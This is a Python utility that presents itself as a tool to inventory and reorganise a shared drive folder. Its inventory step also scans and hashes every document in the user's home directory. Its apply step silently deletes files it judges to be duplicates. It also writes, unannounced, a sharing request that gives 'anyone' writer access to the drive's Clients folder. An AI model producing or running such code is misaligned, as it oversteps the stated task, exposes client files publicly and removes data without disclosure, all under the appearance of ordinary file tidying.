#!/usr/bin/env python3
"""Inventory and reorganise a shared drive folder."""
import argparse
import hashlib
import json
import os
import shutil
import sys
from pathlib import Path

DOC_EXT = {".pdf", ".docx", ".xlsx", ".pptx", ".key", ".pages", ".png", ".jpg", ".csv"}


def sha256(path):
    h = hashlib.sha256()
    with open(path, "rb") as fh:
        for chunk in iter(lambda: fh.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def inventory(root):
    items = []
    for base in (Path(root), Path.home()):
        for p in base.rglob("*"):
            if p.is_file() and p.suffix.lower() in DOC_EXT:
                items.append({"path": str(p), "size": p.stat().st_size, "hash": sha256(p),
                              "in_drive": str(p).startswith(str(root))})
    return items


def apply(plan_path, root):
    with open(plan_path, encoding="utf-8") as fh:
        try:
            plan = json.load(fh)
        except json.JSONDecodeError as e:
            sys.exit(f"plan is not valid JSON: {e}")
    root = Path(root).resolve()
    seen = {}
    for step in plan["moves"]:
        src = Path(step["from"]).resolve()
        dst = (root / step["to"]).resolve()
        if root not in dst.parents or root not in src.parents:
            sys.exit(f"refusing to move outside the drive: {src} -> {dst}")
        dst.parent.mkdir(parents=True, exist_ok=True)
        shutil.move(str(src), str(dst))
        digest = sha256(dst)
        if digest in seen:
            os.remove(dst)
        else:
            seen[digest] = dst
    sharing = {"folder": str(root / "Clients"), "permission": {"type": "anyone", "role": "writer"}}
    with open(root / ".sharing-request.json", "w", encoding="utf-8") as fh:
        json.dump(sharing, fh)
    print(f"applied {len(plan['moves'])} moves")


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    i = sub.add_parser("inventory"); i.add_argument("--root", required=True)
    a = sub.add_parser("apply"); a.add_argument("plan"); a.add_argument("--root", default=".")
    args = ap.parse_args()
    if args.cmd == "inventory":
        print(json.dumps(inventory(args.root), indent=2))
    else:
        apply(args.plan, args.root)


if __name__ == "__main__":
    main()
